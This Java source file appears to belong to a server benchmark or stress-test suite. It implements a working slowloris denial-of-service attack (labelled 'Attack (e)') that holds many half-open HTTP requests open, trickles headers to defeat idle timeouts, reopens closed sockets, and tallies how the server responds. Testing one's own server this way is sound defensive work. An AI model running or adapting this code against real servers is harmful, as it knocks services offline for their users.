package io.huddle.bench;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;

/**
 * Attack (e): many unfinished HTTP requests from one address, on one thread with a selector. A
 * share of them "trickles" (one more header line every so often, the classic slowloris that defeats
 * an idle timeout); the rest send the start of a request and then nothing. A socket the server
 * closes is opened again at once.
 */
final class Slowloris implements Runnable {
  private static final byte[] START =
      "GET /api/v1/user/me HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
          .getBytes(StandardCharsets.US_ASCII);

  /** At most this many connects per pass, so a mass close does not stall the loop. */
  private static final int OPEN_PER_PASS = 250;

  private final InetAddress from;
  private final InetSocketAddress server;
  private final int count;
  private final int trickled;
  private final long trickleNanos;
  private volatile boolean running = true;

  final LongAdder opened = new LongAdder();
  final LongAdder trickleWrites = new LongAdder();
  final AtomicInteger connectedNow = new AtomicInteger();
  final AtomicInteger peakConnected = new AtomicInteger();
  final Tally connectFailures = new Tally();

  /** "untouched|trickled closed after <bucket>", or "... reset after <bucket>". */
  final Tally closes = new Tally();

  /** First line of whatever the server wrote on a half-open request (e.g. a 408 or 431). */
  final Tally answers = new Tally();

  private static final class Half {
    final SocketChannel ch;
    final boolean trickle;
    final long openedAt = System.nanoTime();
    long lastWrite;
    boolean connected;
    boolean answered;
    int header;

    Half(SocketChannel ch, boolean trickle) {
      this.ch = ch;
      this.trickle = trickle;
    }
  }

  Slowloris(
      InetAddress from, InetSocketAddress server, int count, double trickleShare, long trickleNs) {
    this.from = from;
    this.server = server;
    this.count = count;
    this.trickled = (int) Math.round(count * trickleShare);
    this.trickleNanos = trickleNs;
  }

  void stop() {
    running = false;
  }

  @Override
  public void run() {
    Half[] slots = new Half[count];
    ByteBuffer buf = ByteBuffer.allocate(4096);
    try (Selector selector = Selector.open()) {
      while (running) {
        int started = 0;
        for (int i = 0; i < count && started < OPEN_PER_PASS; i++) {
          if (slots[i] == null) {
            started++;
            try {
              slots[i] = open(selector, i, i < trickled);
            } catch (IOException e) {
              connectFailures.add(Tally.reason(e));
              break; // e.g. out of ports or descriptors: try again next pass
            }
          }
        }
        selector.select(100);
        Iterator<SelectionKey> it = selector.selectedKeys().iterator();
        while (it.hasNext()) {
          SelectionKey k = it.next();
          it.remove();
          int i = (Integer) k.attachment();
          Half h = slots[i];
          if (h == null) {
            continue;
          }
          try {
            if (k.isConnectable()) {
              h.ch.finishConnect();
              connected(h, k);
            } else if (k.isReadable()) {
              buf.clear();
              int r = h.ch.read(buf);
              if (r < 0) {
                end(slots, i, "closed");
              } else if (r > 0 && !h.answered) {
                h.answered = true;
                String s = new String(buf.array(), 0, r, StandardCharsets.ISO_8859_1);
                int eol = s.indexOf('\r');
                answers.add(eol < 0 ? s : s.substring(0, eol));
              }
            }
          } catch (IOException e) {
            if (!h.connected) {
              connectFailures.add(Tally.reason(e));
              close(slots, i);
            } else {
              end(slots, i, "reset");
            }
          }
        }
        long now = System.nanoTime();
        for (int i = 0; i < trickled; i++) {
          Half h = slots[i];
          if (h != null && h.connected && now - h.lastWrite >= trickleNanos) {
            try {
              h.ch.write(
                  ByteBuffer.wrap(
                      ("X-Slow-" + h.header++ + ": 1\r\n").getBytes(StandardCharsets.US_ASCII)));
              h.lastWrite = now;
              trickleWrites.increment();
            } catch (IOException e) {
              end(slots, i, "reset");
            }
          }
        }
      }
    } catch (IOException e) {
      connectFailures.add("selector: " + Tally.reason(e));
    } finally {
      for (int i = 0; i < count; i++) {
        close(slots, i);
      }
    }
  }

  private Half open(Selector selector, int i, boolean trickle) throws IOException {
    SocketChannel ch = SocketChannel.open();
    try {
      ch.configureBlocking(false);
      ch.bind(new InetSocketAddress(from, 0));
      Half h = new Half(ch, trickle);
      if (ch.connect(server)) {
        connected(h, ch.register(selector, SelectionKey.OP_READ, i));
      } else {
        ch.register(selector, SelectionKey.OP_CONNECT, i);
      }
      return h;
    } catch (IOException e) {
      ch.close();
      throw e;
    }
  }

  /** The connect completed: send the start of a request that never ends, then only read. */
  private void connected(Half h, SelectionKey k) throws IOException {
    h.connected = true;
    opened.increment();
    int c = connectedNow.incrementAndGet();
    peakConnected.accumulateAndGet(c, Math::max);
    h.ch.write(ByteBuffer.wrap(START));
    h.lastWrite = System.nanoTime();
    k.interestOps(SelectionKey.OP_READ);
  }

  private void end(Half[] slots, int i, String how) {
    Half h = slots[i];
    long seconds = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - h.openedAt);
    String bucket =
        seconds < 1
            ? "<1 s"
            : seconds < 10
                ? "1-10 s"
                : seconds < 55
                    ? "10-55 s"
                    : seconds < 66 ? "55-66 s" : seconds < 120 ? "66-120 s" : ">=120 s";
    closes.add((h.trickle ? "trickled " : "untouched ") + how + " after " + bucket);
    close(slots, i);
  }

  private void close(Half[] slots, int i) {
    Half h = slots[i];
    if (h == null) {
      return;
    }
    if (h.connected) {
      connectedNow.decrementAndGet();
    }
    try {
      h.ch.close();
    } catch (IOException ignored) {
      // closing anyway
    }
    slots[i] = null;
  }

  Map<String, Object> toJson() {
    Map<String, Object> m = new LinkedHashMap<>();
    m.put("sockets", count);
    m.put("trickled", trickled);
    m.put("trickleEverySeconds", TimeUnit.NANOSECONDS.toSeconds(trickleNanos));
    m.put("connectsCompleted", opened.sum());
    m.put("connectedNow", connectedNow.get());
    m.put("peakConnected", peakConnected.get());
    m.put("trickleWrites", trickleWrites.sum());
    m.put("closedByServer", closes.snapshot());
    m.put("serverAnswers", answers.snapshot());
    m.put("connectFailures", connectFailures.snapshot());
    return m;
  }

  String line() {
    return String.format(
        "connected %d (peak %d), connects %d, closes %s, connect failures %d",
        connectedNow.get(),
        peakConnected.get(),
        opened.sum(),
        closes.snapshot(),
        connectFailures.total());
  }
}
